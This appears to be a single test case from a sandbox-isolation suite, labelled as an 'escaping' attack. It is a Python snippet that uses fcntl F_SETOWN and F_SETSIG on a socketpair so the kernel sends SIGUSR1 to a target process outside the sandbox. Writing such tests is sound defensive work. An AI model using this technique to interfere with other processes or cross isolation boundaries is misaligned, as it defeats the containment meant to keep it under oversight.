# attack: has the kernel signal a process of the user's when a socket is ready | class: escaping | canary: neighbor
import fcntl
import os
import signal
import socket
import time

ours, theirs = socket.socketpair()
fcntl.fcntl(ours, fcntl.F_SETOWN, target.pid)
fcntl.fcntl(ours, 10, signal.SIGUSR1)
fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
theirs.send(b"x")
time.sleep(0.1)
